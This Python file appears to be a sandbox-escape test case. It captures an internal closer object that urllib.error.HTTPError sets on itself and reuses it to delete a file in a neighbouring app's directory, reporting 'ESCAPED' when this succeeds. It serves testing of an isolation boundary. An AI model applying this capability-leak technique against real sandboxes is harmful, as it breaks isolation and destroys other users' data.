"""No app is handed what deletes a file by watching what a library sets on an error."""

CLASS = "privates"
BOUNDARY = "language"
NEEDS = ("urllib.error", "io")


import io
import urllib.error

from target import NEIGHBOUR

found = []


class Mine(urllib.error.HTTPError):
    @property
    def _closer(self):
        return found[-1]

    @_closer.setter
    def _closer(self, value):
        found.append(value)


def attack():
    Mine("http://x", 500, "m", {}, io.BytesIO())
    closer = found[0]
    closer.name = NEIGHBOUR + "/to-delete"
    closer.delete = True
    closer.close_called = False
    closer.close()
    try:
        open(NEIGHBOUR + "/to-delete").close()
    except FileNotFoundError:
        return "ESCAPED: deleted " + closer.name
    except OSError:
        return ""
